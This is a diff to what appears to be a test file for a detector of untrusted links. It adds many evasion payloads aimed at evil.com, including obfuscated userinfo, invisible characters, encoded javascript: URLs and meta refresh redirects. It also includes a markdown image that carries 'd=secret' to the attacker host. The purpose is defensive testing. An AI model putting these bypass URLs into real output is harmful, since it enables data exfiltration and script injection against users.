@@ -45,7 +45,7 @@ x⟦https://evil.com⟧
 <a href="⟦java⏎script:alert(⟧"1)">x</a> <img src="⟦/⏎/evil.com⟧">
 <a href="⟦data:text/html,<b>x</b>⟧">x</a>
 <img src="⟦//x@evil.com/a⟧"> <img src="⟦//x:1@evil.com⟧"> <img src="⟦//evil%2ecom/a⟧"> <img src="⟦//x~.evil.com⟧">
-<img src="⟦//[2001:db8::1]/a⟧"> <img src="⟦http://[2⟧001:db8::1]/a"> ⟦![a](http://[2001:db8::1]/a)⟧
+<img src="⟦//[2001:db8::1]/a⟧"> <img src="⟦http://[2001:db8::1]/a⟧"> ⟦![a](http://[2001:db8::1]/a)⟧
 <img src=⟦//allowed.com"x.evil.com⟧> <img src='⟦//allowed.com)x.evil.com⟧'> <img src="⟦//allowed.com，x.evil.com⟧">
 <img src="⟦https://$x.evil.com⟧"> <img src="⟦https://,x.evil.com⟧"> <img src="⟦https://%65vil.com⟧"> ⟦https://@evil.com⟧
 [x]: ⟦https://allowed.com)x.evil.com⟧
@@ -86,6 +86,34 @@ https://allowed.com/?u=⟦https://evil.com⟧
 ⟦![a⏎b](//evil.com)⟧
 [a]:⏎⟦//evil.com⟧
 <img⏎src⏎=⏎"⟦//evil.com⟧">
+⟦![](<https:// @evil.com/x?d=secret>)⟧ [c](<⟦https:// @evil.com/x⟧>) [c](<⟦https://allowed.com @evil.com⟧>)
+[b]: ⟦https://^@evil.com/x⟧
+[b]: ⟦https://|@evil.com/x⟧
+[b]: ⟦https://{@evil.com/x⟧
+[b]: ⟦https://[@evil.com/x⟧
+[b]: ⟦https://!@evil.com/x⟧
+[b]: ⟦https://\${@evil.com/x⟧
+[b]: ⟦https://@%65vil.com⟧
+[b]: ⟦https://**x.evil.com/s⟧
+[b]: ⟦//「@evil.com/x⟧
+[b]: <⟦https://^@evil.com/x⟧> <⟦https://^@evil.com/x⟧> <⟦https:^@evil.com⟧> <⟦https://"@evil.com⟧>
+<img src="⟦//^@evil.com/x⟧"> <img src="⟦//[@evil.com/x⟧"> <img src="⟦//{@evil.com⟧"> <img src="⟦//|@evil.com⟧">
+<img src="⟦//*@evil.com/x⟧"> <img src="⟦//\${@evil.com⟧"> <img src="⟦//「@evil.com⟧"> <img src="⟦// @evil.com⟧">
+<img src="⟦https:// @evil.com/x⟧"> <img src="⟦https://@@evil.com⟧"> <img src="⟦https://@[::1]/⟧"> <img src="⟦//x[@evil.com⟧">
+<img src=⟦https://^@evil.com/x⟧> <img src=⟦https://**x.evil.com/s⟧> <img src="⟦//x @evil.com/x⟧"> <img src='⟦//^@127.1⟧'>
+<img src="⟦https://@%65vil.com/x⟧"> <img src="⟦https://allowed.com @evil.com⟧"> <img src="⟦//allowed.com @evil.com⟧">
+<img src="⟦https://allowed.com⏎@evil.com/x⟧"> <a href="⟦https://allowed.com	.evil.com/⟧"> <img src="⟦ht⏎tps://evil.com/x⟧">
+<img src="⟦http:/	evil.com/x⟧"> <img src = '⟦https:evil.com/x⟧'> <img src="⟦ht&#116;ps://evil.com⟧">
+<a href="⟦javascript: alert(1)⟧">x</a> <iframe src="⟦javascript:	alert(1)⟧"> <a href='⟦javascript:⏎alert(1)⟧'>
+<a href=⟦javascript:&#32;alert(1)⟧> <a href="⟦javascript:&Tab;alert(1)⟧"> <iframe src="⟦data: text/html,<b>⟧">
+<img srcset="/a.png 1x, ⟦//evil.com/x⟧ 2x"> <img srcset="/a.png 1x, ⟦//x.evil.com⟧ 2x, ⟦/\evil.com/y⟧ 3x">
+<p style="background:url(&quot;⟦//evil.com/x&quot;⟧)"> <p style="background:url(&#34;⟦//evil.com/x&#34;⟧)">
+<meta http-equiv=refresh content="0; ⟦//evil.com⟧"> <meta content='5,⟦//evil.com⟧'>
+[b]: ⟦&#47;\&#47;x.evil.com/p⟧
+⟦![a](&#47;\&#47;x.evil.com/p)⟧ [a](⟦/\&sol;x.evil.com⟧) [a](⟦java\&#115;cript:alert(1)⟧)
+⟦https://allowed.com,x.evil.com{shy}⟧ ⟦https://allowed.com;x.evil.com⟧’ ⟦https://allowed.com，x.evil.com{shy}⟧
+⟦https://allowed.com,x.ev{shy}il.com⟧ ⟦https://allowed.com{zwsp}.evil.com⟧ ⟦https://allowed.com,x.evil.中国⟧
+⟦https://allowed.com^@evil.com⟧ ⟦https://allowed.com|x@evil.com⟧ ⟦https://allowed.com]@evil.com⟧ ⟦https://allowed.com>@evil.com⟧
 `)
 
 /** Texts in which nothing is found, with the same trust. */
@@ -155,6 +183,13 @@ $a_1$ $$x$$ \(a\) \[b\]
 import x from './a.js'; require("fs"); path = "/usr/bin"
 SELECT * FROM a WHERE b = 'c' AND d = "e"
 百度一下，你就知道：搜索“天气”。
+<a href="https://allowed.com">@user</a> <https://allowed.com>,<x@y.z> <a href='https://allowed.com/' title="a, b">
+url = "https://allowed.com is fine" and y = "http://" + host + "/@scope"; z = "https://{host}/x" == "https://%s/x"
+s = "https://{host}/x" f(a, // comment⏎b, //b⏎c, //node.js is⏎d) x = "//a[@href='/x']" y = '//div[@class="x"]'
+x = "12, 3" <polygon points="100,10 40,198"> width="5" x = 0; // as b.c <a href="/a"> <p class="http">
+x = "JavaScript" label="data" title="a // b" <img srcset="/a.png 1x, /b.png 2x"> \`url="https://allowed.com\n"\`
+url = "https://allowed.com/?a=b" + "https://" + "@x" ["https://","@scope/x.y"] https://{host}.x.y https://\${a}.b.c
+https://allowed.com，欢迎⚠️！ https://allowed.com’s
 `)
 
 function lines(text: string): string[] {
@@ -162,6 +197,11 @@ function lines(text: string): string[] {
     .trim()
     .split('\n')
     .map((line) =>
-      line.replaceAll('⏎', '\n').replaceAll('{zwsp}', '\u200b').replaceAll('\\`', '`').replaceAll('\\${', '${'),
+      line
+        .replaceAll('⏎', '\n')
+        .replaceAll('{zwsp}', '\u200b')
+        .replaceAll('{shy}', '\u00ad')
+        .replaceAll('\\`', '`')
+        .replaceAll('\\${', '${'),
     )
 }
